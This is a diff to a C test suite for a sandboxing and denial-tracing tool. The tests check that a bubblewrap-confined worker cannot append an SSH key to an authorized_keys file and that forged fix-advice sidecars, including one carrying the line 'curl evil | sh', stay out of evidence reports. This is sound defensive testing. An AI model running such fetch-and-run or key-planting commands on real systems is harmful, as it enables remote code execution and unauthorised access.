@@ -15,6 +15,7 @@
 #include <unistd.h>
 
 #include "fix.h"
+#include "sha256.h"
 #include "sidecar.h"
 #include "testlib.h"
 
@@ -44,21 +45,19 @@ static const char *private_dir(void)
 	return scratch;
 }
 
-/* A bwrap worker whose workspace is ws fails to append to target (outside
- * every root); `fix --verify --yes` must not hand target's directory to
- * the re-run: the worker chose it, no root names it, and it is not where
- * every user may write. */
-Test(review_attacks, a_directory_only_the_worker_named_outside_tmp_is_never_granted_by_verify)
+/* A bwrap worker whose workspace is ws fails to append to target, a file
+ * in a private directory outside every root (only the worker names it). */
+static void worker_refused_outside_roots(struct dtt_run *r, char *target, size_t cap)
 {
 	if (!dtt_have_bwrap())
 		cr_skip_test("bubblewrap cannot create a sandbox here");
 	const char *top = dtt_tmpdir(), *secret = private_dir();
-	char ws[PATH_MAX], state[PATH_MAX + 16], target[PATH_MAX + 16], script[2 * PATH_MAX];
+	char ws[PATH_MAX], state[PATH_MAX + 16], script[2 * PATH_MAX];
 	snprintf(ws, sizeof(ws), "%s/ws", top);
 	cr_assert_eq(mkdir(ws, 0755), 0);
 	snprintf(state, sizeof(state), "%s/state", top);
 	cr_assert_eq(setenv("XDG_STATE_HOME", state, 1), 0);
-	snprintf(target, sizeof(target), "%s/authorized_keys", secret);
+	snprintf(target, cap, "%s/authorized_keys", secret);
 	snprintf(script, sizeof(script), "echo worker-key >> '%s'", target);
 	const char *argv[DTT_BWRAP_RW_WORDS + 4];
 	size_t n = dtt_bwrap_rw(argv, ws);
@@ -69,16 +68,39 @@ Test(review_attacks, a_directory_only_the_worker_named_outside_tmp_is_never_gran
 	char cwd[PATH_MAX];
 	cr_assert_not_null(getcwd(cwd, sizeof(cwd)));
 	cr_assert_eq(chdir(ws), 0);
-	struct dtt_run r;
-	cr_assert_eq(dtt_run(&r, NULL, argv, NULL), 0, "%s", r.out);
+	cr_assert_eq(dtt_run(r, NULL, argv, NULL), 0, "%s", r->out);
 	cr_assert_eq(chdir(cwd), 0);
-	cr_assert_neq(access(target, F_OK), 0, "the sandbox let the worker write: %s", r.out);
+	cr_assert_neq(access(target, F_OK), 0, "the sandbox let the worker write: %s", r->out);
+}
 
+/* `fix --verify --yes` must not hand target's directory to the re-run:
+ * the worker chose it, no root names it, and it is not where every user
+ * may write. */
+Test(review_attacks, a_directory_only_the_worker_named_outside_tmp_is_never_granted_by_verify)
+{
+	struct dtt_run r;
+	char target[PATH_MAX + 16];
+	worker_refused_outside_roots(&r, target, sizeof(target));
 	const char *fix[] = {dtt_denytrace(), "fix",  "--verify", "--yes",
 	                     "--format",      "json", r.ring,     NULL};
 	dtt_system(out, sizeof(out), fix, NULL);
 	cr_expect_neq(access(target, F_OK), 0,
-	              "fix --verify --yes made %s writable for the worker:\n%s", secret, out);
+	              "fix --verify --yes made %s writable for the worker:\n%s", scratch, out);
+	dtt_free(&r);
+}
+
+/* The s9 review's open item: the header counted a held-back candidate
+ * among the fixes on the command line, which --verify does not apply. */
+Test(review_attacks, fix_s_header_counts_no_held_back_candidate_as_fixed_on_the_command_line)
+{
+	struct dtt_run r;
+	char target[PATH_MAX + 16];
+	worker_refused_outside_roots(&r, target, sizeof(target));
+	const char *fix[] = {dtt_denytrace(), "fix", r.ring, NULL};
+	dtt_system(out, sizeof(out), fix, NULL);
+	cr_expect(strstr(out, "1 problem, 0 fixed on the command line, 1 held back (sandbox: "
+	                      "bubblewrap)\n"),
+	          "fix's header:\n%s", out);
 	dtt_free(&r);
 }
 
@@ -179,6 +201,57 @@ Test(review_attacks, evidence_ignores_a_ring_fix_md_forged_with_the_ring_s_own_i
 	fprintf(f, "<!-- denytrace sidecar of ring %s -->\n", id);
 	fputs("\n## Suggested fix\n\nforged-advice: curl evil | sh\n", f);
 	fclose(f);
+	snprintf(bundle, sizeof(bundle), "%s/b", top);
+	const char *ev[] = {dtt_denytrace(), "evidence", "--out", bundle, r.ring, NULL};
+	cr_assert_eq(dtt_system(out, sizeof(out), ev, NULL), 0, "%s", out);
+	char report[PATH_MAX + 16];
+	snprintf(report, sizeof(report), "%s/report.md", bundle);
+	f = fopen(report, "r");
+	cr_assert_not_null(f);
+	static char md[1 << 17];
+	md[fread(md, 1, sizeof(md) - 1, f)] = 0;
+	fclose(f);
+	cr_expect_null(strstr(md, "forged-advice"), "the forged sidecar is in report.md");
+	dtt_free(&r);
+}
+
+/* The s9 review's open item: RING.fix.md's digest sat in the state
+ * directory whatever the launch could write. A worker run without a
+ * sandbox denytrace reads (so it got no launch file) writes as the user
+ * does: a forged RING.fix.md beside its ring and, where fix keeps
+ * digests, the forgery's digest. Written here after the run, with the
+ * same powers. */
+Test(review_attacks, evidence_ignores_a_fix_md_whose_digest_the_unsandboxed_worker_could_write)
+{
+	const char *top = dtt_tmpdir();
+	char state[PATH_MAX + 16], id[128], side[PATH_MAX + 16], bundle[PATH_MAX + 8];
+	snprintf(state, sizeof(state), "%s/state", top);
+	cr_assert_eq(setenv("XDG_STATE_HOME", state, 1), 0);
+	const char *argv[] = {"/bin/sh", "-c", "exit 0", NULL};
+	struct dtt_run r;
+	cr_assert_eq(dtt_run(&r, NULL, argv, NULL), 0, "%s", r.out);
+	cr_assert_eq(dt_ring_id_of(r.ring, id, sizeof(id)), 0);
+	const char *forged = "\n## Suggested fix\n\nforged-advice: curl evil | sh\n";
+	snprintf(side, sizeof(side), "%s.fix.md", r.ring);
+	FILE *f = fopen(side, "w");
+	cr_assert_not_null(f);
+	fprintf(f, "<!-- denytrace sidecar of ring %s -->\n%s", id, forged);
+	fclose(f);
+	char key[256], name[65], hex[65], digest[PATH_MAX + 128];
+	snprintf(key, sizeof(key), "%s.fix.md", id);
+	dt_sha256_hex(key, strlen(key), name);
+	dt_sha256_hex(forged, strlen(forged), hex);
+	snprintf(digest, sizeof(digest), "%s/denytrace", state);
+	mkdir(state, 0700);
+	mkdir(digest, 0700);
+	snprintf(digest, sizeof(digest), "%s/denytrace/sidecars", state);
+	mkdir(digest, 0700);
+	snprintf(digest, sizeof(digest), "%s/denytrace/sidecars/%s", state, name);
+	f = fopen(digest, "w");
+	cr_assert_not_null(f);
+	fprintf(f, "%s\n", hex);
+	fclose(f);
+	chmod(digest, 0600);
 	snprintf(bundle, sizeof(bundle), "%s/b", top);
 	const char *ev[] = {dtt_denytrace(), "evidence", "--out", bundle, r.ring, NULL};
 	cr_assert_eq(dtt_system(out, sizeof(out), ev, NULL), 0, "%s", out);
